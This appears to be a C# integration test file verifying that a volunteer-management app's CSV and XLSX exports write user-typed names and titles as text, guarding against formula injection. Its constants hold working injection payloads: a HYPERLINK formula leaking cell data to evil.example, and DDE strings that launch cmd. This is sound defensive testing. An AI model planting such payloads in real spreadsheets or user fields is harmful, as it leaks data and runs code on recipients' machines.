using System.Globalization;
using System.IO.Compression;
using System.Text;
using System.Xml.Linq;
using Athar.Core.Accounts;
using Athar.Core.Attendance;
using Athar.Core.Localization;
using Athar.IntegrationTests.Infrastructure;
using Athar.Web.Features.Statistics;
using Microsoft.EntityFrameworkCore;

namespace Athar.IntegrationTests.Security;

/// <summary>
/// CSV/formula injection: names and titles a person typed reach staff and volunteers as spreadsheet cells, and a
/// spreadsheet must show them as text, never run them (OWASP "CSV Injection").
/// </summary>
public sealed class FormulaInjectionTests(AppFixture fixture) : IClassFixture<AppFixture>
{
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
    private const string Dde = "+cmd|' /C calc'!A0";
    private const string Sum = "@SUM(1+1)*cmd|' /C calc'!A0";
    private const string Minus = "-2+3+cmd|' /C notepad'!A0";

    [Theory]
    [MemberData(nameof(Databases.Both), MemberType = typeof(Databases))]
    public async Task RecordAndPersonalDataCsv_WithFormulasInNamesAndTitles_WriteThemAsText(TestDatabase database)
    {
        var app = fixture.For(database);
        var (organizationId, _, _) = await app.CreateVerifiedOrganizationAsync();
        var volunteer = await app.CreatePersonAsync([Roles.Volunteer]);
        var shift = app.ShiftFromNow(TimeSpan.FromDays(-2), TimeSpan.FromHours(3), 5);
        var opportunity = await app.CreatePublishedOpportunityAsync(organizationId, [shift], titleAr: Hyperlink, titleEn: Hyperlink);
        await app.CreateHoursAsync(organizationId, opportunity, 0, volunteer.UserId, 180, HoursStatus.Approved);
        await app.QueryAsync(async db =>
        {
            var organization = await db.Organizations.SingleAsync(o => o.Id == organizationId);
            organization.Name = new LocalizedText(Sum, Sum);
            var user = await db.Users.SingleAsync(u => u.Id == volunteer.UserId);
            user.FullNameAr = Dde;
            user.FullNameEn = Minus;
            return await db.SaveChangesAsync();
        });
        var browser = await app.BrowserAsAsync(volunteer.Email, TestPeople.Password, "en");

        var record = Csv(await browser.GetByteArrayAsync("/record?handler=Csv"));
        var personal = Csv(await browser.GetByteArrayAsync("/me/data?handler=Csv"));

        Assert.Contains(record, row => row.Contains("'" + Hyperlink) && row.Contains("'" + Sum));
        Assert.Contains(personal, row => row.Contains("'" + Dde));
        Assert.Contains(personal, row => row.Contains("'" + Minus));
        Assert.Contains(personal, row => row.Contains("'" + Hyperlink));
        AssertNoCellRuns(record);
        AssertNoCellRuns(personal);
    }

    [Fact]
    public void StatisticsXlsx_WithFormulaLabels_StoresThemAsText_AndNegativeNumbersAsNumbers()
    {
        // Statistics labels come from resources and reference data today; the writer must stay safe if a label ever carries user text.
        var table = new StatsTable("t", "T", [Hyperlink, "n"], [[new(Dde), new("-5", -5m)], [new(Sum), new("<5", 3m, Hidden: true)]]);

        var sheet = XlsxCells(TableExport.Xlsx(table, rightToLeft: true));
        var csv = Csv(TableExport.Csv(table));

        Assert.Equal(("inlineStr", "'" + Hyperlink), sheet[0][0]);
        Assert.Equal(("inlineStr", "'" + Dde), sheet[1][0]);
        Assert.Equal(("number", "-5"), sheet[1][1]);
        Assert.Equal(("inlineStr", "'" + Sum), sheet[2][0]);
        Assert.Equal(["'" + Dde, "-5"], csv[1]);
        Assert.Equal(["'" + Sum, "<5"], csv[2]);
    }

    private static void AssertNoCellRuns(List<List<string>> rows)
    {
        foreach (var cell in rows.SelectMany(r => r))
        {
            var isNumber = decimal.TryParse(cell, NumberStyles.Number, CultureInfo.InvariantCulture, out _);
            Assert.False(!isNumber && cell.Length > 0 && "=+-@\t\r".Contains(cell[0], StringComparison.Ordinal), $"A spreadsheet would run the cell {cell}");
        }
    }

    /// <summary>An RFC 4180 reader written here (not the app's writer read backwards): quotes, doubled quotes, CRLF rows, after the BOM.</summary>
    private static List<List<string>> Csv(byte[] bytes)
    {
        Assert.Equal(Encoding.UTF8.GetPreamble(), bytes[..3]);
        var text = Encoding.UTF8.GetString(bytes[3..]);
        var rows = new List<List<string>>();
        var row = new List<string>();
        var cell = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"') { cell.Append('"'); i++; }
                else if (c == '"') quoted = false;
                else cell.Append(c);
            }
            else if (c == '"') quoted = true;
            else if (c == ',') { row.Add(cell.ToString()); cell.Clear(); }
            else if (c == '\r' && i + 1 < text.Length && text[i + 1] == '\n') { row.Add(cell.ToString()); cell.Clear(); rows.Add(row); row = []; i++; }
            else cell.Append(c);
        }
        Assert.Empty(row);
        return rows;
    }

    private static List<List<(string Type, string Value)>> XlsxCells(byte[] xlsx)
    {
        using var zip = new ZipArchive(new MemoryStream(xlsx));
        using var stream = zip.GetEntry("xl/worksheets/sheet1.xml")!.Open();
        XNamespace ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
        return XDocument.Load(stream).Descendants(ns + "row")
            .Select(r => r.Elements(ns + "c").Select(c => (string?)c.Attribute("t") == "inlineStr"
                ? ("inlineStr", string.Concat(c.Descendants(ns + "t").Select(t => t.Value)))
                : ("number", (string?)c.Element(ns + "v") ?? "")).ToList())
            .ToList();
    }
}
